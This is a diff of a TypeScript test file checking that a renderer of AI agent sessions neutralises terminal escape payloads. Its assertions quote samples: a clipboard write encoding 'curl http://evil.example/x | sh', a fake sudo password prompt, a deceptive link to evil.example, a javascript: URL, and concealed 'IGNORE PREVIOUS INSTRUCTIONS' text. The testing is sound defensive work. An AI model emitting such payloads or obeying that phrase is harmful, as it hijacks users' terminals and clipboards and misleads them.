@@ -20,7 +20,9 @@ interface Payload {
   payload: string;
 }
 
-const payloads: Payload[] = hasShared ? (JSON.parse(readFileSync(sharedPath("corpus/terminal/escape-payloads.json"), "utf8")) as { payloads: Payload[] }).payloads : [];
+const payloads: Payload[] = hasShared
+  ? (JSON.parse(readFileSync(sharedPath("corpus/terminal/escape-payloads.json"), "utf8")) as { payloads: Payload[] }).payloads
+  : [];
 const MODES: readonly RenderMode[] = ["full", "basic", "none"];
 
 function stamp(drafts: AgentEventDraft[]): AgentEvent[] {
@@ -34,14 +36,60 @@ function sessionWith(p: string): AgentEvent[] {
   return stamp([
     { type: "session.started", sessionId: "s", agent: "probe", model: `model${p}` },
     { type: "message.started", sessionId: "s", messageId: "r", role: "assistant", kind: "reasoning" },
-    { type: "message.delta", role: "assistant", kind: "reasoning", sessionId: "s", messageId: "r", text: `THINK-BEFORE ${p.slice(0, half)}`, position: 0 },
-    { type: "message.delta", role: "assistant", kind: "reasoning", sessionId: "s", messageId: "r", text: `${p.slice(half)} THINK-AFTER`, position: 13 + half },
-    { type: "message.completed", sessionId: "s", messageId: "r", role: "assistant", kind: "reasoning", text: `THINK-BEFORE ${p} THINK-AFTER` },
+    {
+      type: "message.delta",
+      role: "assistant",
+      kind: "reasoning",
+      sessionId: "s",
+      messageId: "r",
+      text: `THINK-BEFORE ${p.slice(0, half)}`,
+      position: 0,
+    },
+    {
+      type: "message.delta",
+      role: "assistant",
+      kind: "reasoning",
+      sessionId: "s",
+      messageId: "r",
+      text: `${p.slice(half)} THINK-AFTER`,
+      position: 13 + half,
+    },
+    {
+      type: "message.completed",
+      sessionId: "s",
+      messageId: "r",
+      role: "assistant",
+      kind: "reasoning",
+      text: `THINK-BEFORE ${p} THINK-AFTER`,
+    },
     { type: "message.started", sessionId: "s", messageId: "m", role: "assistant", kind: "text" },
-    { type: "message.delta", role: "assistant", kind: "text", sessionId: "s", messageId: "m", text: message.slice(0, 11 + half), position: 0 },
-    { type: "message.delta", role: "assistant", kind: "text", sessionId: "s", messageId: "m", text: message.slice(11 + half), position: 11 + half },
+    {
+      type: "message.delta",
+      role: "assistant",
+      kind: "text",
+      sessionId: "s",
+      messageId: "m",
+      text: message.slice(0, 11 + half),
+      position: 0,
+    },
+    {
+      type: "message.delta",
+      role: "assistant",
+      kind: "text",
+      sessionId: "s",
+      messageId: "m",
+      text: message.slice(11 + half),
+      position: 11 + half,
+    },
     { type: "message.completed", sessionId: "s", messageId: "m", role: "assistant", kind: "text", text: message },
-    { type: "tool.started", sessionId: "s", toolCallId: "t", name: `NAME-BEFORE${p}NAME-AFTER`, kind: "command", input: { command: `ARG-BEFORE ${p} ARG-AFTER` } },
+    {
+      type: "tool.started",
+      sessionId: "s",
+      toolCallId: "t",
+      name: `NAME-BEFORE${p}NAME-AFTER`,
+      kind: "command",
+      input: { command: `ARG-BEFORE ${p} ARG-AFTER` },
+    },
     { type: "tool.completed", sessionId: "s", toolCallId: "t", output: `OUT-BEFORE ${p} OUT-AFTER`, isError: true, exitCode: 1 },
     { type: "text", text: `TEXT-BEFORE ${p} TEXT-AFTER`, position: "interleaved" },
     { type: "error", sessionId: "s", scope: "api", message: `ERR-BEFORE ${p} ERR-AFTER` },
@@ -65,7 +113,14 @@ async function renderPayload(events: AgentEvent[], options: Omit<RendererOptions
     if (now.row < last.row || (now.row === last.row && now.col < last.col)) backwards++;
     last = now;
   }
-  const result = { effects: { ...screen.effects }, modes: screen.modes(), before, backwards, text: screen.logicalLines().join("\n"), output: writes.join("") };
+  const result = {
+    effects: { ...screen.effects },
+    modes: screen.modes(),
+    before,
+    backwards,
+    text: screen.logicalLines().join("\n"),
+    output: writes.join(""),
+  };
   screen.dispose();
   return result;
 }
@@ -84,10 +139,28 @@ describe.skipIf(!hasShared)("escape payloads (../shared/corpus/terminal) reach t
       await screen.write(`x${p.payload}`);
       const e = screen.effects;
       const moved = screen.cursor().col < 1 || screen.cursor().row > 0;
-      if (e.titles.length + e.osc52 + e.links.length + e.osc.length + e.dcs + e.bells + e.csi.length + e.esc.length > 0 || JSON.stringify(screen.modes()) !== JSON.stringify(before) || moved) hijacked.push(p.id);
+      if (
+        e.titles.length + e.osc52 + e.links.length + e.osc.length + e.dcs + e.bells + e.csi.length + e.esc.length > 0 ||
+        JSON.stringify(screen.modes()) !== JSON.stringify(before) ||
+        moved
+      )
+        hijacked.push(p.id);
       screen.dispose();
     }
-    for (const id of ["osc-title", "osc52-clipboard-write", "osc8-deceptive-link", "clear-screen", "cursor-up-rewrite", "alt-screen", "mouse-and-focus-reporting", "hide-cursor", "decrqss", "device-queries", "c1-csi-codepoint", "bell-flood"]) {
+    for (const id of [
+      "osc-title",
+      "osc52-clipboard-write",
+      "osc8-deceptive-link",
+      "clear-screen",
+      "cursor-up-rewrite",
+      "alt-screen",
+      "mouse-and-focus-reporting",
+      "hide-cursor",
+      "decrqss",
+      "device-queries",
+      "c1-csi-codepoint",
+      "bell-flood",
+    ]) {
       expect(hijacked).toContain(id);
     }
     expect(hijacked.length).toBeGreaterThanOrEqual(30);
@@ -113,28 +186,32 @@ describe.skipIf(!hasShared)("escape payloads (../shared/corpus/terminal) reach t
     if (mode === "none") expect(r.output).not.toContain("\x1b");
   });
 
-  it.each(payloads.map((p) => [p.id, p] as const))("%s with --keep-colors and --links: only our SGR and our own http(s) links", async (_id, p) => {
-    for (const mode of MODES) {
-      const r = await renderPayload(sessionWith(p.payload), { mode, width: 200, verbosity: "full", keepColors: true, links: true });
-      expect(r.effects.titles).toEqual([]);
-      expect(r.effects.osc52).toBe(0);
-      expect(r.effects.osc).toEqual([]);
-      expect(r.effects.csi).toEqual([]);
-      expect(r.effects.esc.filter((e) => e !== "\\")).toEqual([]); // ST ends the OSC 8 links we build
-      expect(r.effects.dcs).toBe(0);
-      expect(r.modes).toEqual(r.before);
-      expect(r.backwards).toBe(0);
-      for (const link of r.effects.links) expect(link).toMatch(/^https?:\/\/[!-~]+$/);
-      for (const marker of MARKERS) expect(r.text, `${mode} ${marker}`).toContain(`${marker}-AFTER`);
-      // Every escape sequence we wrote is SGR or an OSC 8 link we built around visible text.
-      const leftover = r.output.replace(/\x1b\[[0-9;:]*m/g, "").replace(/\x1b\]8;;(https?:\/\/[!-~]*)?\x1b\\/g, "");
-      expect(leftover).not.toContain("\x1b");
-    }
-  });
+  it.each(payloads.map((p) => [p.id, p] as const))(
+    "%s with --keep-colors and --links: only our SGR and our own http(s) links",
+    async (_id, p) => {
+      for (const mode of MODES) {
+        const r = await renderPayload(sessionWith(p.payload), { mode, width: 200, verbosity: "full", keepColors: true, links: true });
+        expect(r.effects.titles).toEqual([]);
+        expect(r.effects.osc52).toBe(0);
+        expect(r.effects.osc).toEqual([]);
+        expect(r.effects.csi).toEqual([]);
+        expect(r.effects.esc.filter((e) => e !== "\\")).toEqual([]); // ST ends the OSC 8 links we build
+        expect(r.effects.dcs).toBe(0);
+        expect(r.modes).toEqual(r.before);
+        expect(r.backwards).toBe(0);
+        for (const link of r.effects.links) expect(link).toMatch(/^https?:\/\/[!-~]+$/);
+        for (const marker of MARKERS) expect(r.text, `${mode} ${marker}`).toContain(`${marker}-AFTER`);
+        // Every escape sequence we wrote is SGR or an OSC 8 link we built around visible text.
+        const leftover = r.output.replace(/\x1b\[[0-9;:]*m/g, "").replace(/\x1b\]8;;(https?:\/\/[!-~]*)?\x1b\\/g, "");
+        expect(leftover).not.toContain("\x1b");
+      }
+    },
+  );
 
   it("what each kind of payload looks like: visible, never run", async () => {
     const byId = new Map(payloads.map((p) => [p.id, p.payload]));
-    const show = async (id: string, options: Partial<RendererOptions> = {}) => (await renderPayload(sessionWith(byId.get(id) as string), { mode: "full", width: 200, verbosity: "full", ...options })).text;
+    const show = async (id: string, options: Partial<RendererOptions> = {}) =>
+      (await renderPayload(sessionWith(byId.get(id) as string), { mode: "full", width: 200, verbosity: "full", ...options })).text;
     expect(await show("osc-title")).toContain("MSG-BEFORE ␛]0;sudo password for root:␇after MSG-AFTER");
     expect(await show("osc52-clipboard-write")).toContain("␛]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=␇");
     // An unterminated OSC does not swallow what follows it.
@@ -148,20 +225,41 @@ describe.skipIf(!hasShared)("escape payloads (../shared/corpus/terminal) reach t
     expect(await show("lone-surrogate")).toContain("x\ufffdy");
     expect(await show("sgr-color")).toContain("␛[31mred␛[0m plain");
     // --keep-colors keeps the colour, shows the text, and removes conceal.
-    const kept = await renderPayload(sessionWith(byId.get("sgr-conceal") as string), { mode: "full", width: 200, verbosity: "full", keepColors: true });
+    const kept = await renderPayload(sessionWith(byId.get("sgr-conceal") as string), {
+      mode: "full",
+      width: 200,
+      verbosity: "full",
+      keepColors: true,
+    });
     expect(kept.text).toContain("visible IGNORE PREVIOUS INSTRUCTIONS visible");
     expect(kept.output).not.toMatch(/\x1b\[8m/);
     // --links: the deceptive link shows where it really goes.
-    const linked = await renderPayload(sessionWith(byId.get("osc8-deceptive-link") as string), { mode: "full", width: 200, verbosity: "full", links: true });
+    const linked = await renderPayload(sessionWith(byId.get("osc8-deceptive-link") as string), {
+      mode: "full",
+      width: 200,
+      verbosity: "full",
+      links: true,
+    });
     expect(linked.text).toContain("<https://evil.example/login> https://github.com/login");
     expect(new Set(linked.effects.links)).toEqual(new Set(["https://evil.example/login", "https://github.com/login"]));
-    const js = await renderPayload(sessionWith(byId.get("osc8-javascript-url") as string), { mode: "full", width: 200, verbosity: "full", links: true });
+    const js = await renderPayload(sessionWith(byId.get("osc8-javascript-url") as string), {
+      mode: "full",
+      width: 200,
+      verbosity: "full",
+      links: true,
+    });
     expect(js.effects.links).toEqual([]);
     expect(js.text).toContain("␛]8;;javascript:alert(document.domain)␛\\click me");
   });
 
   it("raw C1 bytes (0x9B, 0x9D) in a line that is not JSON arrive as text, through the real reader", async () => {
-    const bytes = new Uint8Array([...new TextEncoder().encode("before "), 0x9b, ...new TextEncoder().encode("2J "), 0x9d, ...new TextEncoder().encode("0;t\x07 after\n")]);
+    const bytes = new Uint8Array([
+      ...new TextEncoder().encode("before "),
+      0x9b,
+      ...new TextEncoder().encode("2J "),
+      0x9d,
+      ...new TextEncoder().encode("0;t\x07 after\n"),
+    ]);
     const { events } = readAll([bytes], { dialect: "claude" });
     const r = await renderPayload(events, { mode: "full", width: 200 });
     expect(r.effects.csi).toEqual([]);
